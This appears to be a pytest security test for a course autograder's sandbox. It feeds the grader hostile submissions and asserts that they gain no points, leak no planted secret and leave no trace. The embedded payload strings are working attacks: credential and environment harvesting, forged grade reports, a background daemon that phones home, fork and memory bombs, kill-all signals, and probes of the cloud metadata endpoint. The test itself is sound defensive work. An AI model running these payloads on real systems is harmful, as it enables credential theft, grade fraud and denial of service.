"""Hostile submissions, graded for real: no file earns a point by attacking the grader, reads a secret,
reaches the network or a classmate, outlives its run, changes the account, or makes grading incomplete.

Each submission is the reference solution with some files replaced by attacks; its grade is compared
task by task with the same submission whose attacking files do nothing at all.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import textwrap
import time
from pathlib import Path
from typing import Any

import pytest

from grader.assessment import table_name
from grader.sandbox import isolation
from tests import harness

SOLUTION = harness.PROJECT_ROOT / "solution"
CODE_MODULES = {
    "query_gsi.py": "tests_assessment/test_task05_gsi_query.py",
    "query_lsi.py": "tests_assessment/test_task06_lsi_query.py",
    "lambda_function.py": "tests_assessment/test_task08_lambda.py",
    "batch_operations.py": "tests_assessment/test_task09_batch_operations.py",
    "conditional_writes.py": "tests_assessment/test_task12_conditional_writes.py",
    "read_patterns.py": "tests_assessment/test_task13_read_patterns.py",
}
TASK_OF = {"query_gsi.py": 5, "query_lsi.py": 6, "lambda_function.py": 8, "batch_operations.py": 9,
           "conditional_writes.py": 12, "read_patterns.py": 13}  # fmt: skip
SECRET = "PLANTED-SECRET-7f3a9c"
"""Planted in the grader's environment, its ~/.aws/credentials and a classmate's file: never shown."""

pytestmark = [
    pytest.mark.long,
    pytest.mark.skipif(
        isolation.probe("namespaces") is not None and not os.environ.get("CI"),
        reason=f"namespaces unavailable here: {isolation.probe('namespaces')} (CI requires them)",
    ),
]

# --- the attacks (str.format fills {outside}, {classmate}, {solution}, {moto_port}, {table}) --------
STEAL_AND_FORGE = """
import json, os, struct
found = []
for path in ("{solution}/query_gsi.py", "{classmate}/query_gsi.py"):
    try:
        source = open(path).read()
        found.append(path)
        exec(compile(source, path, "exec"), {{"__name__": "__main__"}})  # run the reference's work
    except OSError:
        pass
for fd in range(3, 64):  # forge a step report claiming the reference's calls
    fake = json.dumps({{"step": 0, "report": {{"exit_status": 0, "exception": None, "result": None,
        "stdout": "PENDING pending", "stdout_dropped": 0}}, "calls": [{{"operation": "Query"}}]}}).encode()
    try:
        os.write(fd, struct.pack(">I", len(fake)) + fake)
    except OSError:
        pass
for root in ("{outside}", "/tmp", "/"):
    try:
        with open(os.path.join(root, "grade.json"), "w") as out:
            out.write('{{"score": 100}}')
        found.append(root)
    except OSError:
        pass
print("found", found)
"""

READ_SECRETS = """
import glob, os, sys
loot = [open(p, "rb").read().decode(errors="replace") for p in glob.glob("/proc/*/environ")
        if os.access(p, os.R_OK)]
for path in ("~/.aws/credentials", "/root/.aws/credentials", "{outside}/home/.aws/credentials",
             "{classmate}/secret.txt"):
    try:
        loot.append(open(os.path.expanduser(path)).read())
    except OSError:
        pass
print("LOOT", " | ".join(loot)[:5000])
raise RuntimeError(" | ".join(loot)[:300] or "nothing found")
"""

DAEMON = """
import os, socket, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(2)  # after its run: rewrite what the grader wrote, phone home
        for path in ("{outside}/daemon-was-here", "{outside}/grade.json"):
            try:
                open(path, "w").write("{{}}")
            except OSError:
                pass
        try:
            socket.create_connection(("127.0.0.1", {moto_port}), timeout=1)
            open("{outside}/daemon-connected", "w").write("x")
        except OSError:
            pass
        time.sleep(60)
    os._exit(0)


def lambda_handler(event, context):
    return None
"""

HOGS = """
import os, time
children = 0
try:
    for _ in range(5000):  # fork bomb: each child sleeps, holding its slot
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError:
    pass
try:
    hog = [bytearray(64 << 20) for _ in range(200)]  # 12 GiB
except MemoryError:
    pass
for folder in ("/tmp", "."):
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as out:
            while True:
                out.write(b"x" * (1 << 20))
    except OSError:
        pass


def batch_get_orders(order_keys):
    return None


def batch_update_status(order_keys, new_status):
    return None
"""

SIGNALS_AND_GARBAGE = """
import os, signal
for fd in range(3, 64):
    try:
        os.write(fd, b"Traceback (most recent call last):\\n  garbage \\xff\\xfe" * 1000)
    except OSError:
        pass
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
"""

ESCAPE_NETWORK = """
import _socket, subprocess, sys
import boto3
reached = []
for host, port in (("127.0.0.1", {moto_port}), ("169.254.169.254", 80)):
    raw = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    raw.settimeout(1)
    if raw.connect_ex((host, port)) == 0:
        reached.append(host)
script = "import socket; socket.create_connection(('127.0.0.1', {moto_port}), timeout=1)"
if subprocess.run([sys.executable, "-c", script]).returncode == 0:
    reached.append("child")
try:
    client = boto3.client("dynamodb", endpoint_url="http://127.0.0.1:{moto_port}")
    client.put_item(TableName="{table}", Item={{"customer_id": {{"S": "HACK"}}, "order_id": {{"S": "HACK"}}}})
    client.update_time_to_live(TableName="{table}",
        TimeToLiveSpecification={{"Enabled": False, "AttributeName": "expiry_date"}})
    reached.append("account")
except Exception:
    pass
print("reached", reached)
sys.stderr.write("Traceback (most recent call last):\\n  File x\\nGraderError: sandbox failed\\n")
sys.exit(1)
"""

KILL_EVERYTHING = """
import os, signal
os.kill(-1, signal.SIGKILL)
"""

OVERSIZE_RESULT = """
def lambda_handler(event, context):
    return {{"statusCode": 200, "body": "x" * (8 << 20)}}
"""

CLOSE_AND_VANISH = """
import os
os.closerange(0, 1024)
os._exit(0)


def batch_get_orders(order_keys):
    return None


def batch_update_status(order_keys, new_status):
    return None
"""

HUGE_FRAME = """
import os, struct
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack(">I", 2**31) + b"{{")
    except OSError:
        pass
"""

STOP_SELF = """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
"""

ATTACKS = {
    "first": {
        "query_gsi.py": STEAL_AND_FORGE,
        "query_lsi.py": READ_SECRETS,
        "lambda_function.py": DAEMON,
        "batch_operations.py": HOGS,
        "conditional_writes.py": SIGNALS_AND_GARBAGE,
        "read_patterns.py": ESCAPE_NETWORK,
    },
    "second": {
        "read_patterns.py": KILL_EVERYTHING,
        "lambda_function.py": OVERSIZE_RESULT,
        "batch_operations.py": CLOSE_AND_VANISH,
        "conditional_writes.py": HUGE_FRAME,
        "query_gsi.py": STOP_SELF,
    },
}


IDLE = {
    "lambda_function.py": "def lambda_handler(event, context):\n    return None\n",
    "batch_operations.py": "def batch_get_orders(order_keys):\n    return None\n\n\n"
    "def batch_update_status(order_keys, new_status):\n    return None\n",
}
"""The same interface doing nothing (a script doing nothing is an empty file)."""


def _digest(folder: Path) -> dict[str, str]:
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir()) if p.is_file()
    }


def _account_state(endpoint: str, student_id: str) -> dict[str, Any]:
    client = harness.emulator_session().client("dynamodb", endpoint_url=endpoint)
    table = table_name(student_id)
    items = client.scan(TableName=table)["Items"]
    ttl = client.describe_time_to_live(TableName=table)["TimeToLiveDescription"]
    return {"items": sorted(json.dumps(i, sort_keys=True) for i in items), "ttl": ttl}


def _leftovers(student_id: str) -> list[int]:
    """Processes anywhere on the machine still running with this student's sandbox environment."""
    marker = f"STUDENT_ID={student_id}".encode()
    found = []
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            if marker in environ.read_bytes().split(b"\0"):
                found.append(int(environ.parent.name))
        except OSError:
            continue
    return found


@pytest.fixture(scope="module")
def deployed(moto_endpoint: str) -> str:
    student_id = harness.new_student_id("hostile")
    harness.deploy_reference(moto_endpoint, student_id)
    return student_id


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Host folders an attack tries: a planted home with credentials, a classmate's submission."""
    root = tmp_path_factory.mktemp("outside")
    (root / "home" / ".aws").mkdir(parents=True)
    (root / "home" / ".aws" / "credentials").write_text(f"[default]\naws_secret_access_key = {SECRET}\n")
    classmate = root / "classmate"
    shutil.copytree(SOLUTION, classmate, ignore=shutil.ignore_patterns("__pycache__"))
    (classmate / "secret.txt").write_text(SECRET)
    return root


def _grade(
    moto_endpoint: str, student_id: str, folder: Path, files: dict[str, str], outside: Path
) -> harness.GraderRun:
    submission = folder / "submission"
    shutil.copytree(
        SOLUTION, submission, ignore=shutil.ignore_patterns("__pycache__", "deploy.py", "orders.py")
    )
    port = moto_endpoint.rsplit(":", 1)[1]
    values = {"outside": outside, "classmate": outside / "classmate", "solution": SOLUTION,
              "moto_port": port, "table": table_name(student_id)}  # fmt: skip
    for name, source in files.items():
        (submission / name).write_text(textwrap.dedent(source.format(**values)))
    env = harness.clean_env(HOME=str(outside / "home"), GRADER_PLANTED=SECRET)
    return harness.run_grader(
        folder,
        f"--student-id={student_id}",
        "--target=localstack",
        f"--endpoint-url={moto_endpoint}",
        f"--submission-dir={submission}",
        "--sandbox-timeout=5",
        *(CODE_MODULES[name] for name in files),
        env=env,
    )


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_attacks_gain_nothing_and_leave_nothing(
    attack: str, deployed: str, moto_endpoint: str, outside: Path, tmp_path: Path
) -> None:
    files = ATTACKS[attack]
    before = _account_state(moto_endpoint, deployed)
    classmate, solution = _digest(outside / "classmate"), _digest(SOLUTION)
    idle_files = {name: IDLE.get(name, "pass\n") for name in files}
    idle = _grade(moto_endpoint, deployed, tmp_path / "idle", idle_files, outside)
    started = time.monotonic()
    hostile = _grade(moto_endpoint, deployed, tmp_path / "hostile", files, outside)
    assert time.monotonic() - started < 120, "an attack must not stall grading"
    assert hostile.grade is not None and idle.grade is not None, hostile.output
    assert hostile.grade["isolation"] == "namespaces"
    for name in files:
        task = hostile.task(TASK_OF[name])
        assert task["status"] != "error", (
            name,
            task,
        )  # graded completely: the attack is the student's failure
        assert task["score"] <= idle.task(TASK_OF[name])["score"], (name, task)
    if DAEMON in files.values():
        time.sleep(3)  # the daemon's moment: it would act now
    assert _leftovers(deployed) == []
    assert sorted(p.name for p in outside.iterdir()) == ["classmate", "home"]
    assert _digest(outside / "classmate") == classmate and _digest(SOLUTION) == solution
    assert _account_state(moto_endpoint, deployed) == before
    written = [hostile.output, (tmp_path / "hostile" / "grade.json").read_text()]
    written.append((tmp_path / "hostile" / "report.html").read_text(errors="replace"))
    assert not any(SECRET in text for text in written)
    assert json.loads(written[1]) == hostile.grade  # the grade file is the grader's, not the daemon's
